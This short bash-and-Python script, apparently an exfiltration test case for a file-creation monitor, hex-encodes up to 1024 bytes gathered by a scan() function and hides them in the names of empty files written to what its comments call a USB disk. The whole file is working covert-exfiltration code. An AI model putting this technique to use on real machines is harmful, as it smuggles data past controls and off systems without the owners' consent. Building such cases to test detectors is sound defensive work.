#!/usr/bin/env bash
# technique: names of empty files on the USB disk hold the data
# hooks: inode_create
# sink: usb

. attack.sh
mkdir -p "$COPY"
python3 - <<'PY'
from attack import *

text = scan()[:1024].hex()
for start in range(0, len(text), 128):
    with open(f"{COPY}/{text[start:start + 128]}", "xb"):
        pass
PY
